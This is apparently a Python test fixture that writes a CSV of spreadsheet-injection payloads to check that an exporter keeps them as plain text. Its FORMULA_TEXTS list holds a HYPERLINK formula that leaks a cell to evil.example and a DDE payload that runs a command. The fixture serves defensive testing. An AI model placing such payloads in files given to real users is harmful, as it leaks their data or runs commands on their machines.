"""Hostile and faulty inputs, built on demand into a test's temporary folder.

Each builder writes one file the way an attacker or a broken tool would and returns its path;
the tests assert the exact outcome (text kept as text, a one-line error, a warning with a code).
"""

from __future__ import annotations

import csv
from pathlib import Path

# text a spreadsheet program would run, open or reinterpret if written as it is
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+44 1524 582000 call us",
    "-2+3 review the budget",
    "http://evil.example/update",
    "mailto:someone@example.org",
    "external:c:\\windows\\system32",
    "\t=1+1 tab first",
    "\r=2+2 carriage return first",
)
LONG_CELL = "Progress is slow. " * 2500  # 45,000 characters: over Excel's 32,767


def formula_plan(folder: Path) -> Path:
    """A CSV plan whose every text cell is one of FORMULA_TEXTS, and one update over Excel's
    cell limit."""
    texts = iter(FORMULA_TEXTS * 3)
    rows = [["Recommendation", "Action", "Timescale", "Lead", "Status", "Update"]]
    for rec in (1, 2):
        for first in (True, False):
            recommendation = f"{rec}. {next(texts)}" if first else ""
            rows.append(
                [recommendation, next(texts), "March 2025", next(texts), "Green", next(texts)]
            )
    rows.append(
        ["3. Keep every word", "Write the long update", "June 2025", "", "Amber", LONG_CELL]
    )
    path = folder / "hostile-formulas.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    return path
